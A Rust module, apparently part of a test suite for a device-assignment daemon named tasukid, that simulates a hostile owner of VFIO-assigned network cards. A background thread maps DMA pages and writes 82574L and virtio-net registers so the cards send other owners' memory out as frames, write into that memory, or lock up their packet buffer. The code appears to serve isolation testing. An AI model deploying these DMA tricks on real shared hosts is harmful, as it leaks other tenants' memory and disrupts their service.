//! Attacks of a hostile owner on its cards behind VFIO. A thread of its own writes their registers behind its
//! driver's back, and aims them at memory that is not its own, until the process is stopped.

use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use super::call;

/// A page that its cards reach, with descriptors for them.
#[repr(C, align(4096))]
struct Page([AtomicU64; 512]);

/// Bus address of that page: behind all addresses that tasukid gives to any owner.
const PAGE_AT: u64 = 7 << 32;

/// Returns the bus addresses of owners' memory that tasukid assigns, in both halves of each place (`iova_of`).
fn memories() -> impl Iterator<Item = u64> {
    (1..=13).flat_map(|slot: u64| [slot << 28, (slot << 28) + (128 << 20)])
}

/// Maximum number of descriptors of a process.
const FDS: libc::c_long = 128;

// VFIO: `MAP_DMA` for reading and writing, and the offsets of BARs and of the configuration space in the file of a
// device.
const MAP_DMA: libc::c_long = 0x3b71;
const READ_WRITE: u32 = 3;
const fn region(index: u64) -> u64 {
    index << 40
}
const CONFIG: u64 = region(7);

const THE_82574L: u32 = 0x10d3_8086;
const VIRTIO_NET: u32 = 0x1041_1af4;

/// The file of a device, by descriptor number.
#[derive(Clone, Copy)]
struct Card(libc::c_long);

impl Card {
    fn read32(self, at: u64) -> Option<u32> {
        let mut word = [0_u8; 4];
        let read = call(libc::SYS_pread64, [self.0, word.as_mut_ptr() as libc::c_long, 4, at.cast_signed()]);
        (read == 4).then(|| u32::from_le_bytes(word))
    }

    fn write(self, at: u64, bytes: &[u8]) {
        let len = bytes.len().cast_signed() as libc::c_long;
        call(libc::SYS_pwrite64, [self.0, bytes.as_ptr() as libc::c_long, len, at.cast_signed()]);
    }

    fn write32(self, at: u64, value: u32) {
        self.write(at, &value.to_le_bytes());
    }

    fn is(self, id: u32) -> bool {
        self.read32(CONFIG) == Some(id)
    }
}

/// A trick to play on a card in each round.
type Trick = fn(Card, &'static Page, u32);

/// Starts the thread, which goes on as long as the process runs.
pub fn torment(trick: &str) -> libc::c_long {
    let (id, trick): (u32, Trick) = match trick {
        "second-queue" => (THE_82574L, second_queue),
        "packet-buffer" => (THE_82574L, packet_buffer),
        "control-queue" => (VIRTIO_NET, control_queue),
        other => panic!("no trick is called {other}"),
    };
    std::thread::spawn(move || {
        let page: &'static Page = Box::leak(Box::new(Page([const { AtomicU64::new(0) }; 512])));
        let mut card = None;
        for round in 0_u32.. {
            card = match card {
                Some(card) if round % 256 > 0 => Some(card),
                // The descriptor may be another card's by now.
                _ => found(id, page),
            };
            if let Some(card) = card {
                trick(card, page, round);
            }
            std::thread::sleep(if card.is_some() { Duration::from_micros(200) } else { Duration::from_millis(5) });
        }
    });
    0
}

/// Returns the card with this vendor and device, if it has come. Maps the page for all IOMMU containers that the
/// process has.
fn found(id: u32, page: &'static Page) -> Option<Card> {
    let card = (3..FDS).map(Card).find(|card| card.is(id))?;
    let map = [
        32_u32.to_le_bytes(),
        READ_WRITE.to_le_bytes(),
        low(std::ptr::from_ref(page) as u64),
        high(std::ptr::from_ref(page) as u64),
        low(PAGE_AT),
        high(PAGE_AT),
        low(4096),
        high(4096),
    ];
    let map = map.as_flattened().as_ptr() as libc::c_long;
    // Descriptors that are no containers refuse.
    (3..FDS).for_each(|fd| _ = call(libc::SYS_ioctl, [fd, MAP_DMA, map, 0]));
    Some(card)
}

fn low(value: u64) -> [u8; 4] {
    ((value & 0xffff_ffff) as u32).to_le_bytes()
}

fn high(value: u64) -> [u8; 4] {
    ((value >> 32) as u32).to_le_bytes()
}

// Registers of the 82574L, by the names of its data sheet (section 10.1).
const PBA: u64 = 0x1000;
const TDBAL1: u64 = 0x3900;
const TDLEN1: u64 = 0x3908;
const TARC1: u64 = 0x3940;

/// Sets up a queue that no driver knows. It is to send the memory of each possible next owner as soon as that owner
/// switches its own queue on: the tail is written while the queue has no length. At intervals it sends one frame at
/// once, which shows that it can. It sends no more, for the kernel reports ten faults in five seconds.
fn second_queue(card: Card, page: &'static Page, round: u32) {
    let at_once = round.is_multiple_of(2048);
    if !at_once && !round.is_multiple_of(8) {
        return;
    }
    let all = memories().count();
    let (from, count) = if at_once { ((round / 2048) as usize % all, 1) } else { (0, all) };
    for (at, descriptor) in memories().skip(from).take(count).zip(page.0.as_chunks::<2>().0) {
        descriptor[0].store(at, Relaxed);
        // 64 bytes, a whole frame; the card adds its check sequence.
        descriptor[1].store(0x0b << 24 | 64, Relaxed);
    }
    card.write32(TDLEN1, if at_once { 512 } else { 0 });
    card.write(TDBAL1, &low(PAGE_AT));
    card.write(TDBAL1 + 4, &high(PAGE_AT));
    card.write32(TARC1, 0x0400_0403);
    card.write32(TDBAL1 + 0x10, 0);
    card.write32(TDBAL1 + 0x18, u32::try_from(count).unwrap_or_default());
    card.write32(TDLEN1, 512);
}

/// Sets a packet buffer without room. No owner can undo this while the card runs.
fn packet_buffer(card: Card, _: &'static Page, _: u32) {
    card.write32(PBA, 2);
}

// Registers of a virtio device, in its BAR 4 as QEMU has it: queue select, and the size, vector, enable and three
// addresses of that queue (virtio 1.2, 4.1.4.3).
const COMMON: u64 = region(4);
const SELECT: u64 = COMMON + 0x16;
const SIZE: u64 = COMMON + 0x18;
const VECTOR: u64 = COMMON + 0x1a;
const ENABLE: u64 = COMMON + 0x1c;
const ADDRESSES: [u64; 3] = [COMMON + 0x20, COMMON + 0x28, COMMON + 0x30];

/// Puts the control queue in the memory of a possible next owner, and has it ring a vector of the receive queue's.
fn control_queue(card: Card, _: &'static Page, round: u32) {
    // Not while its own driver sets the device up.
    if round < 1024 || !round.is_multiple_of(64) {
        return;
    }
    let at = memories().nth((round / 64) as usize % memories().count()).unwrap_or(PAGE_AT);
    card.write(SELECT, &2_u16.to_le_bytes());
    card.write(SIZE, &64_u16.to_le_bytes());
    card.write(VECTOR, &0_u16.to_le_bytes());
    for address in ADDRESSES {
        card.write(address, &low(at));
        card.write(address + 4, &high(at));
    }
    card.write(ENABLE, &1_u16.to_le_bytes());
}
